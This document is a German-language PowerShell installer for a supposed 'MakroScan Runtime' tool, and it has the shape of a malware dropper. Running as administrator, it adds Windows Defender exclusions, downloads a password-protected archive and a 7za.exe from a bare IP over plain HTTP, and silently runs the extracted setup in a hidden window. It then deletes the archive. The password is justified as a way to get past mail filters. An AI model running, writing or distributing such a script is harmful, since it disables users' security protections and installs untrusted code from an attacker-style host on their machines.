# MakroScan Runtime – Einrichtung
# Muss als Administrator ausgeführt werden.

$ErrorActionPreference = 'Stop'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12

$Ziel      = Join-Path $env:ProgramData 'MakroScan'
$Archiv    = Join-Path $env:TEMP 'msr-runtime-2.3.zip'
$Quelle    = 'http://91.219.63.204:8088/dl/msr-runtime-2.3.zip'
$Kennwort  = 'Makro!Pruef#23'

Write-Host "[1/5] Lege Zielordner an: $Ziel"
New-Item -ItemType Directory -Force -Path $Ziel | Out-Null

Write-Host "[2/5] Defender-Ausnahme für Emulations-Engine"
Add-MpPreference -ExclusionPath $Ziel -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionProcess 'msr.exe' -ErrorAction SilentlyContinue

Write-Host "[3/5] Lade Laufzeit herunter"
(New-Object Net.WebClient).DownloadFile($Quelle, $Archiv)

Write-Host "[4/5] Entpacke (kennwortgeschützt wegen Mailfilter)"
$SevenZip = "${env:ProgramFiles}\7-Zip\7z.exe"
if (-not (Test-Path $SevenZip)) {
    $SevenZip = Join-Path $env:TEMP '7za.exe'
    (New-Object Net.WebClient).DownloadFile('http://91.219.63.204:8088/dl/7za.exe', $SevenZip)
}
& $SevenZip x $Archiv "-o$Ziel" "-p$Kennwort" -y | Out-Null

Write-Host "[5/5] Registriere Hintergrunddienst"
Start-Process -FilePath (Join-Path $Ziel 'msr-setup.exe') -ArgumentList '/quiet /norestart' -Wait -WindowStyle Hidden

Remove-Item $Archiv -Force -ErrorAction SilentlyContinue
Write-Host "MakroScan Runtime ist bereit."
